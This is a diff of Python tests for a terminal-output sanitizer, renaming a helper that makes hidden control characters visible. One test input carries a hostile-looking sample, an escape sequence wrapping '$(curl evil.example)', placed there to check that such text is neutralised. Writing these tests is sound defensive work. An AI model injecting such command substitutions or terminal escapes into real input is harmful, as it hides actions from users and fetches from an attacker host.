@@ -10,7 +10,7 @@ from bytebuddy_provider_hf.cli.terminal import (
     Sanitizer,
     sanitize,
     sanitize_line,
-    unhidden,
+    visible_controls,
 )
 
 SEQUENCES = {
@@ -75,12 +75,12 @@ def test_one_line_holds_no_line_feed() -> None:
 def test_what_is_agreed_to_hides_nothing() -> None:
     """Of a diff every control character is seen: a file gets what the screen drops."""
     hidden = "echo hi\x1b]0;$(curl evil.example)\x07 \x9b8m\u202e\r \x00"
-    shown = unhidden(hidden)
+    shown = visible_controls(hidden)
     assert shown == (
         "echo hi⟨U+001B⟩]0;$(curl evil.example)⟨U+0007⟩ ⟨U+009B⟩8m⟨U+202E⟩⟨U+000D⟩ "
         "⟨U+0000⟩"
     )
-    assert unhidden("+a\t1\r\n-b\r\n+c\r") == "+a\t1\n-b\n+c"
+    assert visible_controls("+a\t1\r\n-b\r\n+c\r") == "+a\t1\n-b\n+c"
 
 
 HOSTILE = st.text(alphabet=st.sampled_from("ab\n\t\x1b[]P\\\x07\x9b\x9d\x9c31m;\r\x7f"))
@@ -104,7 +104,7 @@ def test_no_control_character_passes_and_cuts_change_nothing(
 @given(text=HOSTILE)
 def test_no_control_character_passes_what_hides_nothing(text: str) -> None:
     """Only line feed and tab reach the screen, and no other character is lost."""
-    shown = unhidden(text)
+    shown = visible_controls(text)
     assert not any(
         ord(character) < 0x20 or 0x7F <= ord(character) <= 0x9F
         for character in shown
